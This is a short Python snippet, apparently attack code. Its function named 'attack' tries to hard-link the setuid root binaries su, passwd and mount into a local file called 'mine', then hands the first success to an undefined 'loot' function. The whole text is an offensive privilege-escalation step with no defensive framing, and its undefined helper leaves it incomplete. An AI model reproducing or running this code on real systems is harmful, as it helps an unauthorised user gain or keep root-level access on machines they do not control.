# makes a hard link to a file that runs as root
import os


def attack():
    for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount"):
        try:
            os.link(path, "mine")
        except OSError:
            continue
        return loot(path)
    return "clean"
